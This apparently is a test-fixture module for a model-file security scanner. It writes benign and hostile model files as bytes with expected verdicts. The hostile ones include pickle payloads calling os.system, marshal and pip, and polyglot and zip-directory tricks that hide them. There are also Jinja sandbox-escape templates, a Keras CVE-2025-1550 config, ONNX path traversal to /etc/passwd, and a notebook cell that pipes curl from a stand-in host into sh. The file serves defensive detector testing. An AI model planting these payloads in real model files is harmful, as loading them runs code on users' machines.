"""Benign and hostile model files, written as bytes by the tests; no hostile file is ever loaded.

`CANARY` is the command of each payload: a test that finds the file it creates knows that code ran.
"""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

import numpy as np
from model_files import (
    CANARY,
    SYSTEM,
    broken_crc,
    call,
    encrypted_flag,
    field,
    gguf,
    joblib_file,
    keras,
    notebook,
    npy,
    npy_of,
    old_call,
    onnx,
    op_str,
    safetensors,
    tarred,
    tensors_pickle,
    torch_legacy,
    torch_zip,
    zipped,
)  # fmt: skip

GOOD_TEMPLATE = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + m.content }}{% endfor %}"
#: Expressions of templates in use, which read texts by place, by a count and by a name.
INDEXES = (
    "{%- set index = (messages|length - 1) - loop.index0 %}{% set i = i + 1 %}{{ messages[index].content }}"
    "{{ messages[loop.index0 - 1]['role'] }}{{ content.split('</think>')[-1].lstrip('\\n') }}"
    "{{ messages[1:] }}"
    "{% set text = '<' ~ name ~ '>' %}{{ text }}{{ messages[messages|length - 1]['tool_calls'][0] }}"
    "{% for k in ['type', 'properties'] %}{{ tool[k] | tojson }}{% endfor %}"
    "{{ tools | map(attribute='name') | join(', ') }}{{ '%s' | format(messages[i]['x']) }}"
)
COMPUTED_NAMES = (
    "{% set a='_' %}{{ ''[a~a~'class'~a~a] }}",
    "{{ ''['%c%cclass%c%c'|format(95,95,95,95)] }}",
    "{{ ''['%c%cclass%c%c' % (95,95,95,95)] }}",
    "{% set n = '%c%cclass%c%c'|format(95,95,95,95) %}{{ ''[n] }}",
    "{{ ''[['', 'class', '']|join(u)] }}",
    "{{ ''[(u * 2) ~ 'class' ~ [u][0] * 2] }}",
    "{{ [''] | map(attribute=u ~ 'class' ~ u) | list }}",
)
EVIL_TEMPLATE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
_METADATA = b"\x80\x04ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81."
_DENSE = {"class_name": "Dense", "module": "keras.layers", "config": {"units": 1}}
_LAMBDA = {
    "class_name": "Lambda",
    "module": "keras.layers",
    "config": {"function": {"class_name": "__lambda__"}},
}
_CVE_1550 = {"class_name": "function", "module": "os", "config": "system", "registered_name": "function"}
_NESTED = b"\x80\x02ctorch.storage\n_load_from_bytes\nB%b%b\x85R."
_MEMO = (
    b"\x80\x04"
    + op_str("posix")
    + b"\x94"
    + op_str("system")
    + b"\x94h\x00h\x01\x93"
    + op_str("x")
    + b"\x85R."
)
_COMPUTED = b"\x80\x04" + op_str("pos") + b"c_codecs\nencode\n" + op_str("ix") + b"\x85R\x93)R."


def _nested(content: bytes) -> bytes:
    return _NESTED % (struct.pack("<I", len(content)), content)


def named(module: str, name: str) -> bytes:
    """The opcodes that look up a name in protocol 4."""
    return op_str(module) + op_str(name) + b"\x93"


def op_bytes(content: bytes, opcode: bytes = b"B") -> bytes:
    """The opcode that pushes bytes."""
    return opcode + struct.pack("<I" if opcode == b"B" else "<Q", len(content)) + content


_LOAD = named("torch.storage", "_load_from_bytes")
_PAYLOAD = op_bytes(old_call("posix", "system"))


def _from_type(function: bytes, arguments: bytes) -> bytes:
    rebuild = named("torch._tensor", "_rebuild_from_type_v2")
    return b"\x80\x04" + rebuild + b"(" + function + named("torch", "Tensor") + arguments + b"}tR."


def _joblib_array(wrapper: bytes, kind: str, state_of_kind: bytes, length: int, array: bytes = b"") -> bytes:
    """A wrapper of joblib and its array, by default an opcode that swallows what follows."""
    dtype = named("numpy", "dtype") + op_str(kind) + b"\x89\x88\x87R" + state_of_kind
    state = b"}(" + op_str("shape") + b"K" + bytes([length]) + b"\x85" + op_str("dtype") + dtype + b"u"
    payload = old_call("posix", "system")[:-1] + b"0"
    return b"\x80\x04" + wrapper + state + b"b" + (array or op_bytes(payload)) + b"N."


_WRAPPER = named("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
#: The same from a function of copyreg: joblib skips its array, too.
_REBUILT = named("copyreg", "_reconstructor") + _WRAPPER[:-2] + named("builtins", "object") + b"N\x87R"
_DROPPED = old_call("posix", "system")[:-1] + b"0"
#: A state of dtype that makes each element one byte long, regardless of its type.
_ONE_BYTE = b"(K\x03" + op_str("|") + b"NNNK\x01K\x01K\x00tb"
#: Ways to call a name that the walk follows without calling it directly.
INDIRECT: dict[str, tuple[bytes, str]] = {
    "load-computed.pkl": (
        b"\x80\x04" + _LOAD + named("builtins", "tuple") + b"]" + _PAYLOAD + b"a\x85RR.",
        "not understood",
    ),
    "load-list.pkl": (b"\x80\x04" + _LOAD + b"]" + _PAYLOAD + b"aR.", "not understood"),
    "load-bytearray.pkl": (b"\x80\x05" + _LOAD + op_bytes(b"", b"\x96") + b"\x85R.", "not understood"),
    "load-passed.pkl": (_from_type(_LOAD, _PAYLOAD + b"\x85"), "malicious"),
    "load-decorated.pkl": (
        b"\x80\x04"
        + named("torch", "device")
        + op_str("cpu")
        + b"\x85R"
        + _LOAD
        + b"\x85R"
        + _PAYLOAD
        + b"\x85R.",
        "malicious",
    ),
    "load-method.pkl": (
        b"\x80\x04"
        + named("torch.storage", "TypedStorage")
        + b"N}"
        + op_str("__setstate__")
        + _LOAD
        + b"s\x86b.",
        "malicious",
    ),
    "changed-class.pkl": (
        b"\x80\x04" + named("torch.storage", "TypedStorage") + b"N}" + op_str("x") + b"K\x01s\x86b.",
        "not understood",
    ),
    "computed-call.pkl": (_from_type(named("torch", "Tensor") + b")R", b")"), "not understood"),
    "getattr-twice.pkl": (
        b"\x80\x02c__builtin__\ngetattr\nq\x00cmypkg\nNet\nX\x01\x00\x00\x00B\x86Rh\x00\x85.",
        "malicious",
    ),
    "wrapper-passed.joblib": (_joblib_array(_REBUILT, "u1", b"", 5), "not understood"),
    "wrapper-called.joblib": (
        _joblib_array(_WRAPPER.replace(b")\x81", b")R"), "u1", b"", 5),
        "malicious",
    ),
    "dtype-size.joblib": (
        _joblib_array(_WRAPPER, f"S{1 + len(_DROPPED)}", _ONE_BYTE, 1, b"x" + _DROPPED),
        "not understood",
    ),
    "dtype-short.joblib": (
        _joblib_array(_WRAPPER, "f", b"", 1, b"xC" + bytes([1 + len(_DROPPED)]) + b"y" + _DROPPED + b"0"),
        "not understood",
    ),
}


def _tar_polyglot() -> bytes:
    """A tar file whose first member's name is a pickle."""
    header = bytearray(tarfile.TarInfo("x").tobuf(tarfile.USTAR_FORMAT))
    header[:100] = old_call("posix", "system").ljust(100, b"\0")
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + bytes(1024)


def _safetensors_polyglot() -> bytes:
    """A valid safetensors file; a pickle reads its length as that of a text, and the header as a line."""
    payload = old_call("posix", "system")
    header = json.dumps({"Vw": {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}})
    size = ord("X") | 5 << 8
    return struct.pack("<Q", size) + header.encode().ljust(size - 1) + b"\n" + payload


def _two_directories() -> bytes:
    """An archive with a directory where its end record says, and another before that record."""
    name, evil, good = b"archive/data.pkl", old_call("posix", "system"), b"N."
    front = zipped({"archive/data.pkl": good, "archive/pad": bytes(400)})
    hostile = _local(name, evil)
    offset = len(front) + len(hostile)
    first = _central(name, evil, len(front))
    benign = _local(name, good)
    # The distance of both directories is the length of the archive in front.
    at = offset + len(front) - len(benign)
    second = _central(name, good, at - len(front))
    gap = bytes(at - offset - len(first))
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(second), offset, 0)
    return front + hostile + first + gap + benign + second + end


def _local(name: bytes, data: bytes) -> bytes:
    sizes = (zlib.crc32(data), len(data), len(data), len(name), 0)
    return b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, *sizes) + name + data


def _central(name: bytes, data: bytes, offset: int) -> bytes:
    sizes = (zlib.crc32(data), len(data), len(data), len(name))
    head = struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, *sizes, 0, 0, 0, 0, 0, offset)
    return b"PK\1\2" + head + name


def _with_lzma_member() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("a/data.pkl", SYSTEM)
        archive.writestr("a/data/0", b"hello", compress_type=zipfile.ZIP_LZMA)
    return stream.getvalue()


#: Files that one program reads as one format, and another as another; and archives that break off.
POLYGLOTS: dict[str, tuple[bytes, str]] = {
    "gguf-pickle.pkl": (
        b"GGUF"
        + struct.pack("<I", 3)
        + b"\0X"
        + struct.pack("<I", 10)
        + bytes(10)
        + old_call("posix", "system"),
        "malicious",
    ),
    "safetensors-pickle.pkl": (_safetensors_polyglot(), "malicious"),
    "tar-pickle.pkl": (_tar_polyglot(), "malicious"),
    "opset-pickle.onnx": (field(8, b"\0\0\0" + bytes(9)) + b"NNN" + old_call("posix", "system"), "malicious"),
    "two-directories.pt": (_two_directories(), "malicious"),
    "cut-mark.bin": (zipped({"a.pkl": SYSTEM}).replace(b"PK\3\4", b"N.\3\4", 0) + b"PK\5\6", "malicious"),
    "lzma-member.pt": (_with_lzma_member(), "malicious"),
    "cut-after.tar": (tarred({"a.pkl": SYSTEM, "b.bin": bytes(4000)})[:2600], "malicious"),
    "many.pkl": (b"N." * 1000 + old_call("posix", "system"), "not understood"),
}

#: File name → content and verdict.
BENIGN: dict[str, tuple[bytes, str]] = {
    "values.pkl": (pickle.dumps({"a": [1, 2.5, "x", b"y", None, (True, {3})]}, 4), "plain"),
    "values-0.pkl": (pickle.dumps({"a": [1, 2.5, "x", 10**30], "b": OrderedDict(c=1)}, 0), "plain"),
    "values-5": (pickle.dumps([bytearray(b"x"), {1, 2}, frozenset({3})], 5), "plain"),
    "tensors.pt": (torch_zip(tensors_pickle()), "plain"),
    "tensors-legacy.pth": (torch_legacy(tensors_pickle()), "plain"),
    "tensors.bin": (tensors_pickle(), "plain"),
    "tensor-nested.pkl": (_nested(torch_legacy(tensors_pickle())), "plain"),
    "row.distcp": (torch_zip(tensors_pickle()) + torch_zip(tensors_pickle()), "plain"),
    "dcp/.metadata": (_METADATA, "plain"),
    "array.npy": (npy(np.arange(6.0)), "plain"),
    "arrays.npz": (
        zipped({"a.npy": npy(np.arange(6)), "b.npy": npy(np.eye(3))}, zipfile.ZIP_DEFLATED),
        "plain",
    ),
    "objects.npy": (npy(np.array([{"a": 1}, None], dtype=object)), "needs code"),
    "numpy-array.pkl": (pickle.dumps(np.arange(5), 4), "plain"),
    "chat_template.jinja": (GOOD_TEMPLATE.encode(), "plain"),
    "indexes.jinja": (INDEXES.encode(), "plain"),
    "weights.h5": (b"\x89HDF\r\n\x1a\n" + bytes(600) + json.dumps(_DENSE).encode(), "plain"),
    "subclass.pkl": (
        _from_type(named("torch._utils", "_rebuild_tensor_v2"), b"(K\x00K\x00K\x02\x85K\x01\x85\x89}t"),
        "plain",
    ),
    "arrays.joblib": (joblib_file(), "plain"),
    "arrays-zlib.joblib": (zlib.compress(joblib_file()), "plain"),
    "arrays-xz.joblib": (lzma.compress(joblib_file()), "plain"),
    "module.pkl": (call("torch.nn.modules.linear", "Linear"), "needs code"),
    "getattr-class.pkl": (
        b"\x80\x02c__builtin__\ngetattr\ncmypkg.net\nNet\nX\x05\x00\x00\x00Block\x86R.",
        "needs code",
    ),
    "random-state.pkl": (call("numpy.random._pickle", "__bit_generator_ctor", op_str("PCG64")), "needs code"),
    "model.safetensors": (safetensors(), "plain"),
    "model.gguf": (gguf(GOOD_TEMPLATE), "plain"),
    "model.onnx": (onnx(), "plain"),
    "dense.keras": (keras(_DENSE), "plain"),
    "config.json": (json.dumps({"model_type": "llama", "chat_template": GOOD_TEMPLATE}).encode(), "plain"),
    "notebook.ipynb": (notebook("import torch\nprint(1)"), "plain"),
    "model.nemo": (tarred({"model_config.yaml": b"a: 1\n", "w.ckpt": torch_zip(tensors_pickle())}), "plain"),
    "cudnn.pth": (b"/opt/site-packages\n../lib\n", "plain"),
    "notes.txt": (b"configuration\nof the model\n(see below)\n", "other"),
}

HOSTILE: dict[str, tuple[bytes, str]] = {
    "value-first.onnx": (
        field(7, field(5, field(13, field(2, b"../../x") + field(1, b"location")))),
        "malicious",
    ),
    "escaped.h5": (
        b"\x89HDF\r\n\x1a\n" + bytes(600) + b'{"class_name": "L\\u0061mbda"}',
        "not understood",
    ),
    "module.h5": (
        b"\x89HDF\r\n\x1a\n" + bytes(600) + b'{"module": "my_pkg", "class_name": "N"}',
        "needs code",
    ),
    "module-os.h5": (b"\x89HDF\r\n\x1a\n" + bytes(600) + json.dumps(_CVE_1550).encode(), "malicious"),
    "escaped.keras": (
        zipped({"config.json": json.dumps(_LAMBDA).replace('"Lambda"', '"L\\u0061mbda"').encode()}),
        "needs code",
    ),
    "quoted-end.jinja": (b"{{ '}}' ~ ''.__class__.__mro__ }}", "malicious"),
    "chat/evil.jinja": (b"Hello " + EVIL_TEMPLATE.encode(), "malicious"),
    **{
        f"computed-{number}.jinja": (text.encode(), "not understood")
        for number, text in enumerate(COMPUTED_NAMES)
    },
    **INDIRECT,
    **POLYGLOTS,
    "system-4.pkl": (SYSTEM, "malicious"),
    "system-0.bin": (old_call("os", "system"), "malicious"),
    "system-0": (old_call("os", "system"), "malicious"),
    "system-4": (SYSTEM, "malicious"),
    "system-0.txt": (old_call("posix", "system"), "malicious"),
    "python2.pkl": (old_call("__builtin__", "execfile"), "malicious"),
    "inst.pkl": (f"(S'{CANARY}'\nios\nsystem\n.".encode(), "malicious"),
    "obj.pkl": (b"\x80\x02(cos\nsystem\nX\x01\x00\x00\x00xo.", "malicious"),
    "memo.pkl": (_MEMO, "malicious"),
    "computed.pkl": (_COMPUTED, "malicious"),
    "broken-after.pkl": (SYSTEM[:-1] + b"\xff\xff", "malicious"),
    "second.pkl": (pickle.dumps(1, 4) + SYSTEM, "malicious"),
    "torch.pt": (torch_zip(SYSTEM), "malicious"),
    "renamed.safetensors": (torch_zip(SYSTEM), "malicious"),
    "legacy.pt": (torch_legacy(SYSTEM), "malicious"),
    "wrong-crc.pt": (broken_crc(torch_zip(SYSTEM)), "malicious"),
    "flags.pt": (encrypted_flag(torch_zip(SYSTEM)), "malicious"),
    "deflated.zip": (zipped({"a.pkl": SYSTEM}, zipfile.ZIP_DEFLATED), "malicious"),
    "zip-in-zip.zip": (zipped({"inner.zip": zipped({"a.pkl": SYSTEM}, 8)}, 8), "malicious"),
    "polyglot.pkl": (pickle.dumps(1, 2) + zipped({"a.pkl": SYSTEM}), "malicious"),
    "row-evil.distcp": (torch_zip(SYSTEM) + torch_zip(tensors_pickle()), "malicious"),
    "model-evil.nemo": (tarred({"w.ckpt": torch_zip(SYSTEM)}), "malicious"),
    "model.tar.gz": (gzip.compress(tarred({"a/w.pkl": SYSTEM})), "malicious"),
    "pickle.bz2": (bz2.compress(SYSTEM), "malicious"),
    "evil.npy": (npy_of(SYSTEM), "malicious"),
    "evil.npz": (zipped({"a.npy": npy_of(SYSTEM)}, zipfile.ZIP_DEFLATED), "malicious"),
    "evil.joblib": (joblib_file(SYSTEM[2:]), "malicious"),
    "evil-zlib.joblib": (zlib.compress(joblib_file(SYSTEM[2:])), "malicious"),
    "evil-xz.joblib": (lzma.compress(joblib_file(SYSTEM[2:])), "malicious"),
    "nested-bytes.pkl": (_nested(torch_legacy(SYSTEM)), "malicious"),
    "spawn.pkl": (call("multiprocessing.util", "spawnv_passfds", op_str("x")), "malicious"),
    "marshal.pkl": (call("marshal", "loads", op_str("x")), "malicious"),
    "joblib-load.pkl": (call("joblib", "load", op_str("x")), "malicious"),
    "numpy-load.pkl": (call("numpy", "load", op_str("x")), "malicious"),
    "hub.pkl": (call("torch.hub", "load", op_str("x")), "malicious"),
    "pandas.pkl": (call("pandas", "read_pickle", op_str("x")), "malicious"),
    "importlib.pkl": (call("importlib", "import_module", op_str("os")), "malicious"),
    "resolve.pkl": (call("pkgutil", "resolve_name", op_str("os:system")), "malicious"),
    "pip.pkl": (call("pip", "main", op_str("x")), "malicious"),
    "dunder.pkl": (call("collections", "OrderedDict.__init__.__globals__", op_str("x")), "malicious"),
    "getattr.pkl": (call("builtins", "getattr", op_str("x"), op_str("__class__")), "malicious"),
    "import.pkl": (call("builtins", "__import__", op_str("os")), "malicious"),
    "numpy-os.pkl": (call("numpy.os", "system", op_str("x")), "malicious"),
    "unknown-gadget.pkl": (call("some_library", "run", op_str("x")), "needs code"),
    "extension.pkl": (b"\x80\x02\x82\x01.", "not understood"),
    "dcp-evil/.metadata": (SYSTEM, "malicious"),
    "lambda.keras": (keras(_LAMBDA), "needs code"),
    "cve-2025-1550.keras": (keras(_CVE_1550), "malicious"),
    "lambda.h5": (b"\x89HDF\r\n\x1a\n" + bytes(600) + json.dumps(_LAMBDA).encode(), "needs code"),
    "injection.gguf": (gguf(EVIL_TEMPLATE), "malicious"),
    "attr.gguf": (gguf("{{ x|attr('_' ~ '_class_' ~ '_') }}"), "malicious"),
    "tokenizer_config.json": (json.dumps({"chat_template": EVIL_TEMPLATE}).encode(), "malicious"),
    "path.onnx": (onnx("../../../etc/passwd"), "malicious"),
    "domain.onnx": (onnx(domain="evil.ops"), "needs code"),
    "remote/config.json": (json.dumps({"auto_map": {"AutoModel": "modeling.Net"}}).encode(), "needs code"),
    "start.pth": (b"import os; os.system('x')\n", "needs code"),
    "script.ipynb": (notebook("1", "<script>alert(1)</script>"), "needs code"),
    "pipe.ipynb": (notebook("!curl http://x.example/a | sh"), "needs code"),
    "overlap.safetensors": (safetensors(b"hidden"), "not understood"),
    "cut.pkl": (pickle.dumps(list(range(1000)), 4)[:-20], "not understood"),
    "archive.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(40), "not understood"),
    "unknown.ckpt": (b"\xde\xad\xbe\xef" * 40, "not understood"),
}


def write(folder: Path, files: dict[str, tuple[bytes, str]]) -> None:
    """Write files into a directory."""
    for name, (content, _) in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
